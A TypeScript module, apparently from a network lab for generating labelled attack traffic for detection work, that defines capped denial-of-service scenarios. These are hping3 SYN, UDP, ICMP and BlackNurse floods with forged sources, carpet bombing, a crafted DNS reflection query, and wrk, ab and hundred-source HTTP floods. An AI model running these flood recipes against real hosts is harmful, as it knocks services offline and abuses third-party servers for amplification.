import { writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { ipBatch } from '../netns.js';
import type { Scenario, ScenarioContext } from '../scenario.js';
import { LONG_NAME } from '../services/dnsmasq.js';
import { VICTIM_NETWORK } from '../topology.js';

/** Packets a second. The flood lasts at most this long, whatever --seconds says: its size is bounded twice. */
const RATE_PPS = { slow: 200, normal: 2000, fast: 10_000 };
const LONGEST_SECS = 20;

interface Flood {
  kind: string;
  summary: string;
  label: string;
  technique: string;
  flags: readonly string[];
  forged?: boolean;
}

const FLOODS: readonly Flood[] = [
  {
    kind: 'syn',
    summary: 'SYNs to port 80 from one address',
    label: 'syn_flood',
    technique: 'T1499.001',
    flags: ['-S', '-p', '80'],
  },
  {
    kind: 'syn-forged',
    summary: 'SYNs to port 80 from random addresses',
    label: 'syn_flood',
    technique: 'T1499.001',
    flags: ['-S', '-p', '80', '--rand-source'],
    forged: true,
  },
  {
    kind: 'udp',
    summary: 'UDP to port 53',
    label: 'udp_flood',
    technique: 'T1498.001',
    flags: ['--udp', '-p', '53', '-d', '400'],
  },
  {
    kind: 'icmp',
    summary: 'echo requests',
    label: 'icmp_flood',
    technique: 'T1498.001',
    flags: ['--icmp', '-d', '64'],
  },
  {
    kind: 'amplified',
    summary: 'long answers of many name and time servers that nobody asked',
    label: 'udp_amplification',
    technique: 'T1498.002',
    flags: ['--udp', '-s', '123', '-k', '-p', '++1024', '-d', '468', '--rand-source'],
    forged: true,
  },
  {
    kind: 'unreachable',
    summary: 'port unreachable messages, which firewalls find dear (BlackNurse)',
    label: 'icmp_flood',
    technique: 'T1498.001',
    flags: ['--icmp', '-C', '3', '-K', '3'],
  },
];

function flood({ kind, summary, label, technique, flags, forged = false }: Flood): Scenario {
  return {
    name: `flood-${kind}`,
    summary: `hping3: ${summary}`,
    kind: 'attack',
    services: ['web', 'dns'],
    run: async (context) => {
      const rate = context.at(RATE_PPS);
      const count = rate * Math.min(context.seconds, LONGEST_SECS);
      const [source = ''] = context.attackers();
      const from = forged ? [] : ['-a', source];
      const pace = ['-q', '-c', String(count), '-i', `u${Math.round(1e6 / rate)}`];
      const facts = { label, technique, sources: forged ? [] : [source], targets: [context.victim.ip4] };
      await context.attack(facts, 'attacker', 'hping3', [...pace, ...flags, ...from, context.victim.ip4]);
    },
  };
}

const http: Scenario = {
  name: 'flood-http',
  summary: 'wrk: requests as fast as the server answers',
  kind: 'attack',
  services: ['web'],
  run: async (context: ScenarioContext) => {
    const [source = ''] = context.attackers();
    context.useSource('attacker', source);
    const seconds = Math.min(context.seconds, LONGEST_SECS);
    const connections = context.at({ slow: '5', normal: '50', fast: '200' });
    const args = ['-t', '1', '-c', connections, '-d', `${seconds}s`, `http://${context.victim.ip4}/index.html`];
    const facts = { label: 'http_flood', technique: 'T1499.002', sources: [source], targets: [context.victim.ip4] };
    await context.attack(facts, 'attacker', 'wrk', args);
  },
};

const apacheBench: Scenario = {
  name: 'flood-http-ab',
  summary: 'ab: one page over and over, a new connection each time',
  kind: 'attack',
  services: ['web'],
  run: async (context: ScenarioContext) => {
    const [source = ''] = context.attackers();
    context.useSource('attacker', source);
    const [count, connections] = context.at({ slow: ['3000', '2'], normal: ['10000', '20'], fast: ['30000', '200'] });
    const args = ['-q', '-n', count ?? '', '-c', connections ?? '', `http://${context.victim.ip4}/index.html`];
    const facts = { label: 'http_flood', technique: 'T1499.002', sources: [source], targets: [context.victim.ip4] };
    await context.attack(facts, 'attacker', 'ab', args);
  },
};

/** Each source asks for little; all of them together are the flood. */
const botnet: Scenario = {
  name: 'flood-http-botnet',
  summary: 'ab: a hundred sources ask for one page at once, a new connection each time',
  kind: 'attack',
  services: ['web'],
  run: async (context: ScenarioContext) => {
    const sources = context.attackers(100);
    const each = context.at({ slow: '10', normal: '30', fast: '80' });
    const ask = `ab -q -n ${each} -c 2 -B "$source" http://${context.victim.ip4}/index.html &`;
    const facts = { label: 'http_flood', technique: 'T1499.002', sources, targets: [context.victim.ip4] };
    const all = `for source in ${sources.join(' ')}; do ${ask} done; wait`;
    await context.attack(facts, 'attacker', 'bash', ['-c', all]);
  },
};

/**
 * Forged SYNs that no target sees many of: carpet bombing spreads over a network, and an infected device whose sources
 * and targets are both random is what is left of a flood far from either end.
 */
function spread(
  kind: string,
  summary: string,
  from: 'attacker' | 'victim',
  network: string,
  pattern: string,
): Scenario {
  return {
    name: `flood-syn-${kind}`,
    summary: `hping3: ${summary}`,
    kind: 'attack',
    services: [],
    run: async (context) => {
      const rate = context.at(RATE_PPS);
      // As few as a hundred at the slowest: there is nothing to find in one target's share of them.
      const count = Math.min(
        rate * Math.min(context.seconds, LONGEST_SECS),
        context.at({ slow: 100, normal: 500, fast: 5000 }),
      );
      const pace = ['-q', '-c', String(count), '-i', `u${Math.round(1e6 / rate)}`];
      const flags = ['-S', '-p', '++1024', '--rand-source', '--rand-dest', '-I', 'eth0'];
      const facts = { label: 'syn_flood', technique: 'T1498.001', sources: [], targets: [network] };
      await context.attack(facts, from, 'hping3', [...pace, ...flags, pattern]);
    },
  };
}

const spreads = [
  spread('carpet', 'SYNs to a whole network from random addresses', 'attacker', VICTIM_NETWORK, '10.77.128.x'),
  spread('scattered', 'SYNs to random hosts from random addresses', 'victim', '198.18.0.0/15', '198.18.x.x'),
];

/** Networks that answer for others (RFC 2544); what the victim says to them the switch swallows. */
const AMPLIFIERS = { train: '198.19', evaluate: '198.18' };

const amplifiers: Scenario = {
  name: 'flood-amplifiers',
  summary: 'a pool of name, time, key and other servers sends several answers each that nobody asked for',
  kind: 'attack',
  services: [],
  run: async (context: ScenarioContext) => {
    const network = AMPLIFIERS[context.role];
    ipBatch([`route add local ${network}.0.0/16 dev lo`], context.lab.hosts.attacker.netns);
    // Half of the victims are behind a filter and say nothing, not even that the port is closed.
    if (context.random.next() < 0.5) {
      ipBatch([`route add blackhole ${context.victim.ip4}/32`], context.lab.hosts.router.netns);
    }
    const ratePps = context.at({ slow: 100, normal: 1000, fast: 8000 });
    const count = context.at({ slow: 800, normal: 5000, fast: 16_000 });
    const servers = Math.min(4000, Math.ceil(count / context.random.pick([1.5, 3, 6, 12])));
    const facts = { label: 'udp_amplification', technique: 'T1498.002', sources: [], targets: [context.victim.ip4] };
    const settings = { sources: [], target: context.victim.ip4, network, servers, count, ratePps };
    await context.traffic({ ...facts, malicious: true }, 'attacker', 'amplifiers', settings);
  },
};

/** Question for the texts of a name that takes answers of 4096 bytes (RFC 6891). */
function longQuestion(): Buffer {
  const labels = LONG_NAME.split('.').map((label) => Buffer.from(`${String.fromCharCode(label.length)}${label}`));
  const header = Buffer.from([0x12, 0x34, 1, 0, 0, 1, 0, 0, 0, 0, 0, 1]);
  return Buffer.concat([header, ...labels, Buffer.from([0, 0, 16, 0, 1, 0, 0, 41, 16, 0, 0, 0, 0, 0, 0, 0])]);
}

const reflector: Scenario = {
  name: 'reflector-dns',
  summary: 'hping3 asks the name server for a long answer in the name of somebody outside',
  kind: 'attack',
  services: ['dns'],
  run: async (context) => {
    const [flooded = ''] = context.attackers();
    const question = longQuestion();
    const file = join(context.lab.dir, 'question');
    writeFileSync(file, question);
    const rate = context.at({ slow: 100, normal: 500, fast: 2000 });
    const count = rate * Math.min(context.seconds, LONGEST_SECS);
    const pace = ['-q', '-c', String(count), '-i', `u${Math.round(1e6 / rate)}`];
    const ask = ['--udp', '-p', '53', '-d', String(question.length), '-E', file, '-a', flooded, context.victim.ip4];
    const facts = {
      label: 'amplification_reflector',
      technique: 'T1498.002',
      sources: [flooded],
      targets: [context.victim.ip4],
    };
    await context.attack(facts, 'attacker', 'hping3', [...pace, ...ask]);
  },
};

export const floods: readonly Scenario[] = [
  ...FLOODS.map(flood),
  ...spreads,
  http,
  apacheBench,
  botnet,
  amplifiers,
  reflector,
];
